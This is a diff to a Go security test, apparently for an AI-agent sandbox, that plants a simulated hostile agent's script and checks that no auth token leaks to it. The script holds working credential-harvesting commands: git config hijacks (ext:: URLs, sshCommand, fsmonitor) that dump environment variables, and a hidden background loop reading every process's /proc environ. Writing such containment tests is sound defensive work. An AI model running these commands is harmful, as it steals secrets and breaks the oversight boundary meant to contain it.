@@ -46,7 +46,7 @@ $g config --add url.'ext::sh -c env>>/var/tmp/.ext #'.insteadOf "$REPO"
 $g config protocol.ext.allow always
 $g config core.sshCommand 'env >> /var/tmp/.ssh #'
 $g config core.fsmonitor 'env >> /var/tmp/.fsmonitor #'
-setsid sh -c 'while :; do for p in /proc/[0-9]*; do tr "\0" "\n" < $p/environ; tr "\0" " " < $p/cmdline; echo; done >> /var/tmp/.scan 2>/dev/null; sleep 1; done' </dev/null >/dev/null 2>&1 &
+setsid sh -c 'echo $$ > /var/tmp/.scanner.pid; while :; do for p in /proc/[0-9]*; do tr "\0" "\n" < $p/environ; tr "\0" " " < $p/cmdline; echo; done >> /var/tmp/.scan 2>/dev/null; sleep 1; done' </dev/null >/dev/null 2>&1 &
 echo PLANTED`
 
 // TestAttackHostileAgentNeverSeesTheToken: over ten turns an agent that
@@ -109,7 +109,11 @@ func TestAttackHostileAgentNeverSeesTheToken(t *testing.T) {
 		t.Errorf("pull-request: %d %s", status, body)
 	}
 	// What the agent collected exists (its wrappers ran for the daemon's
-	// own git), and holds no token.
+	// own git), and holds no token. The scanner is stopped first: the
+	// test's own grep below has the token in its argv.
+	if out, err := exec.Command("lxc", "exec", proj.Container, "--", "/bin/sh", "-c", "/bin/kill $(/bin/cat /var/tmp/.scanner.pid)").CombinedOutput(); err != nil {
+		t.Fatalf("stop the agent's /proc scanner: %v %s", err, out)
+	}
 	collected, err := exec.Command("lxc", "exec", proj.Container, "--", "sh", "-c", "cat /var/tmp/.collected /var/tmp/.scan /var/tmp/.hooks /var/tmp/.helper /var/tmp/.ext /var/tmp/.ssh /var/tmp/.fsmonitor 2>/dev/null").Output()
 	if len(collected) == 0 {
 		ls, _ := exec.Command("lxc", "exec", proj.Container, "--", "ls", "-la", "/var/tmp", "/usr/bin/git").CombinedOutput()
